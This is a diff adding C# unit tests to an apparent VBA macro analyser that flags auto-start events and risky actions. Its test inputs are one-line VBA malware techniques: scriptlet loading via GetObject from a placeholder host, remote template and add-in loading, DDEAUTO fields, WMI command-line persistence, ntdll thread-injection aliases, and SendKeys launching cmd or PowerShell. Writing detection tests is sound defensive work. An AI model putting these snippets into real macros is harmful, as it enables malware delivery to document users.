@@ -61,6 +61,64 @@ public class VbaBehaviourTests
         Assert.Equal((VbaReach.SelfStart, path), (action.Reach, action.Path));
     }
 
+    [Theory]
+    [InlineData("Image1_MouseMove(ByVal b As Integer)", "ThisDocument", "", VbaReach.SelfStart)]
+    [InlineData("ComboBox1_Change()", "Sheet1", "Attribute VB_Base = \"0{00020820-0000-0000-C000-000000000046}\"\r\n", VbaReach.SelfStart)]
+    [InlineData("ComboBox1_Change()", "Module1", "", VbaReach.User)]
+    [InlineData("ComboBox1_Change()", "Form1", "Attribute VB_Base = \"0{AAAAAAAA-0000-0000-0000-000000000000}{BBBBBBBB-0000-0000-0000-000000000000}\"\r\n", VbaReach.User)]
+    [InlineData("Worksheet_Change(ByVal t As Range)", "Sheet1", "Attribute VB_Base = \"0{00020820-0000-0000-C000-000000000046}\"\r\n", VbaReach.User)]
+    [InlineData("FileClose()", "ThisDocument", "", VbaReach.SelfStart)]
+    [InlineData("FileSave()", "Module1", "Attribute VB_Base = \"0{00020906-0000-0000-C000-000000000046}\"\r\n", VbaReach.SelfStart)]
+    [InlineData("FileOpen()", "Module1", "", VbaReach.User)]
+    public void EventThatPeopleDoNotMean_IsAStart(string head, string module, string attributes, VbaReach reach) =>
+        Assert.Equal(reach, Assert.Single(Of(VbaSurroundings.None, new VbaModule(module, $"{attributes}Sub {head}\r\nShell \"cmd\"\r\nEnd Sub", false)).Actions).Reach);
+
+    [Theory]
+    [InlineData("GetObject \"script:http://a.test/a.sct\"", VbaActionKind.RunsProgram, VbaActionKind.Downloads)]
+    [InlineData("Set x = GetObject(\"scr\" & \"ipt:http://a.test/a.sct\")", VbaActionKind.RunsProgram, VbaActionKind.Downloads)]
+    [InlineData("GetObject \"\\\\192.0.2.4\\a.sct\"", VbaActionKind.RunsProgram)]
+    [InlineData("CreateObject(\"htmlfile\").parentWindow.execScript \"x()\", \"JScript\"", VbaActionKind.RunsProgram)]
+    [InlineData("AddIns.Add \"http://a.test/a.dotm\", True", VbaActionKind.RunsProgram, VbaActionKind.Downloads)]
+    [InlineData("AddIns.Add \"c:\\a.wll\", True", VbaActionKind.RunsProgram)]
+    [InlineData("ActiveDocument.AttachedTemplate = \"http://a.test/a.dotm\"", VbaActionKind.Downloads)]
+    [InlineData("ActiveDocument.Fields.Add Selection.Range, -1, \"DDEAUTO cmd.exe\"", VbaActionKind.RunsProgram)]
+    [InlineData("ActiveDocument.InlineShapes(1).OLEFormat.Activate", VbaActionKind.RunsProgram)]
+    [InlineData("With ActiveDocument.InlineShapes(1).OLEFormat\r\n.DoVerb 0\r\nEnd With", VbaActionKind.RunsProgram)]
+    [InlineData("ActiveDocument.Shapes.AddOLEObject FileName:=\"http://a.test/a.exe\"", VbaActionKind.Downloads)]
+    [InlineData("Set o = GetObject(\"winmgmts:root\\subscription\").Get(\"CommandLineEventConsumer\").SpawnInstance_\r\no.CommandLineTemplate = \"cmd\"", VbaActionKind.RunsProgram)]
+    [InlineData("CreateObject(\"System.Runtime.Serialization.Formatters.Binary.BinaryFormatter\").Deserialize_2 s", VbaActionKind.InjectsCode)]
+    [InlineData("CreateObject(\"Shell.Application\").Namespace(7).CopyHere \"\\\\192.0.2.4\\a.exe\"", VbaActionKind.WritesProgram)]
+    [InlineData("SendKeys \"^{ESC}cmd{ENTER}\"", VbaActionKind.RunsProgram)]
+    [InlineData("Application.SendKeys \"powershell~\"", VbaActionKind.RunsProgram)]
+    [InlineData("CreateObject(\"WScript.Shell\").SendKeys \"cmd~\"", VbaActionKind.RunsProgram)]
+    [InlineData("With CreateObject(\"WScript.Shell\").CreateShortcut(\"c:\\a.lnk\")\r\n.TargetPath = \"cmd.exe\"\r\n.Save\r\nEnd With", VbaActionKind.WritesProgram, VbaActionKind.RunsProgram)]
+    public void WaysToHaveSomethingLoaded_AreKnown(string statements, params VbaActionKind[] kinds)
+    {
+        var actions = Of(VbaSurroundings.None, new VbaModule("ThisDocument", $"Sub AutoOpen()\r\n{statements}\r\nEnd Sub", false)).Actions.Where(a => a.Reach == VbaReach.SelfStart).Select(a => a.Kind);
+
+        Assert.Superset(kinds.ToHashSet(), actions.ToHashSet());
+    }
+
+    [Theory]
+    [InlineData("ntdll", "ZwCreateThreadEx", VbaActionKind.InjectsCode)]
+    [InlineData("ntdll.dll", "ZwProtectVirtualMemory", VbaActionKind.InjectsCode)]
+    [InlineData("shell32", "#167", VbaActionKind.RunsProgram)]
+    public void FunctionByAnotherName_IsKnown(string library, string function, VbaActionKind kind) =>
+        Assert.Equal(kind, Single($"Private Declare PtrSafe Function z Lib \"{library}\" Alias \"{function}\" (ByVal a As String) As Long\r\nSub AutoOpen()\r\nz \"x\"\r\nEnd Sub").Kind);
+
+    [Theory]
+    [InlineData("SendKeys \"%{F4}\"")]
+    [InlineData("SendKeys \"{ENTER}\", True")]
+    [InlineData("AddIns.Add \"\\\\server\\share\\tools.xlam\", True")]
+    [InlineData("ActiveDocument.AttachedTemplate = \"\\\\server\\share\\letter.dotx\"")]
+    [InlineData("ActiveDocument.Fields.Add Selection.Range, wdFieldPage")]
+    [InlineData("x = ActiveDocument.InlineShapes(1).OLEFormat.ProgID")]
+    [InlineData("ActiveSheet.OLEObjects(\"Box\").Activate")]
+    [InlineData("CreateObject(\"Shell.Application\").Namespace(\"c:\\a\").CopyHere CreateObject(\"Shell.Application\").Namespace(\"c:\\a.zip\").Items")]
+    [InlineData("CreateObject(\"htmlfile\").write \"<p>\"")]
+    [InlineData("GetObject(\"\\\\server\\share\\book.xlsx\").Close")]
+    public void EverydayWays_AreNot(string statement) => Assert.DoesNotContain(Of(VbaSurroundings.None, new VbaModule("ThisDocument", $"Sub AutoOpen()\r\n{statement}\r\nEnd Sub", false)).Actions, a => a.Kind is not VbaActionKind.OpensProgram);
+
     [Fact]
     public void ShownForm_StartsItsOwnEvents()
     {
